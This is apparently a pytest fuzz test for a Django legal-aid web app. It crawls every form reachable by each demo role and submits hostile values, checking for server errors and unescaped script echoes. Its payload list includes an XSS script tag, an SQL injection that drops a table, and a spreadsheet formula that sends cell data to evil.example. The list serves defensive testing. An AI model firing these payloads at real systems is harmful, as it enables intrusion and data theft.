"""Hostile input to every form and query parameter the crawl finds: never a 5xx, never an unescaped echo.

The demo is loaded in a transaction (as the English crawl does). Each demo role, and an anonymous member
of the public on the public pages, crawls the pages it can reach; every form found there (GET forms: their
query parameters; POST forms: their fields) is submitted once per hostile value with every text field set
to it. Each submission runs in a savepoint that is rolled back, so one does not change what the next sees.
"""

from collections import deque
from html.parser import HTMLParser
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.conf import settings
from django.db import transaction
from django.test import Client, override_settings

from tests.legalaid.test_english_crawl import PageReader, demo_logins, follow, seed_all_demos

pytestmark = pytest.mark.django_db

MAX_PAGES = 120  # per role: the forms repeat from page to page of a kind
SCRIPT = "<script>alert('fuzz')</script>"
HOSTILE = [
    "",
    "长" * 10_000,
    "𠀀龘喆堃㛃😀",
    SCRIPT,
    "' OR 1=1; DROP TABLE cases_case; --",
    "-99999999999999999999999",
    "2026-02-30",
    "0000-00-00T25:61",
    "abc\x00def",
    '=HYPERLINK("http://evil.example/?p="&A1,"点击")',
]
PUBLIC_PAGES = ["/intake/apply/", "/intake/apply/status/", "/supervision/r/ABCD2345/"]
TEXT_TYPES = {"text", "search", "tel", "email", "number", "date", "datetime-local", "time", "url", "hidden", ""}


class FormReader(HTMLParser):
    """Forms: action, method, and their named fields (text-like, choices, checkboxes)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self.current: dict | None = None
        self.select: str | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.current = {
                "action": attrs.get("action") or "",
                "method": (attrs.get("method") or "get").lower(),
                "text": set(),
                "choices": {},
            }
            self.forms.append(self.current)
        elif self.current is None or not attrs.get("name"):
            return
        elif tag == "input" and (attrs.get("type") or "").lower() in TEXT_TYPES:
            if attrs["name"] != "csrfmiddlewaretoken":
                self.current["text"].add(attrs["name"])
        elif tag == "input" and (attrs.get("type") or "").lower() in {"radio", "checkbox"}:
            self.current["choices"].setdefault(attrs["name"], attrs.get("value", "on"))
        elif tag == "textarea":
            self.current["text"].add(attrs["name"])
        elif tag == "select":
            self.select = attrs["name"]
            self.current["text"].add(attrs["name"])  # a hostile value where a choice is expected

    def handle_endtag(self, tag):
        if tag == "form":
            self.current = None


def forms_reachable(client: Client, start: list[str]) -> dict[tuple[str, str], dict]:
    queue, seen, found = deque(start), set(start), {}
    pages = 0
    while queue and pages < MAX_PAGES:
        url = queue.popleft()
        response = client.get(url)
        pages += 1
        if response.status_code != 200 or not response.get("Content-Type", "").startswith("text/html"):
            continue
        html = response.content.decode()
        forms = FormReader()
        forms.feed(html)
        for form in forms.forms:
            action = urlsplit(urljoin("http://testserver" + url, form["action"] or url)).path
            if action.startswith(("/accounts/logout", "/i18n/", "/admin/")):
                continue
            found.setdefault((form["method"], action), form)
        links = PageReader()
        links.feed(html)
        for href in links.links:
            link = follow(url, href)
            if link and link not in seen and urlsplit(link).path.count("/") <= 5:
                seen.add(link)
                queue.append(link)
    return found


def send(client: Client, method: str, action: str, data: dict):
    if method == "post":
        return client.post(action, data)
    return client.get(f"{action}?{urlencode(data)}")


def attack(client: Client, forms: dict) -> list[str]:
    problems = []
    for (method, action), form in sorted(forms.items()):
        for value in HOSTILE:
            data = dict.fromkeys(form["text"], value) | dict(form["choices"])
            with transaction.atomic():
                response = send(client, method, action, data)
                transaction.set_rollback(True)
            label = f"{method.upper()} {action} {value[:30]!r}"
            if response.status_code >= 500:
                problems.append(f"{label}: {response.status_code}")
            elif SCRIPT in response.content.decode("utf-8", "replace"):
                problems.append(f"{label}: echoed unescaped")
    return problems


@pytest.fixture(scope="module")
def fuzz_results(django_db_setup, django_db_blocker, tmp_path_factory):
    from legalaid.models import User

    results = {}
    with (
        django_db_blocker.unblock(),
        override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("fuzz-media")),
        transaction.atomic(),
    ):
        seed_all_demos()
        public = Client(raise_request_exception=False)
        results["public"] = attack(public, forms_reachable(public, PUBLIC_PAGES))
        for username in demo_logins():
            client = Client(raise_request_exception=False)
            client.force_login(User.objects.get(username=username))
            client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"
            results[username] = attack(client, forms_reachable(client, ["/"]))
        transaction.set_rollback(True)
    return results


def test_hostile_input_never_breaks_a_page(fuzz_results):
    assert {who: problems for who, problems in fuzz_results.items() if problems} == {}
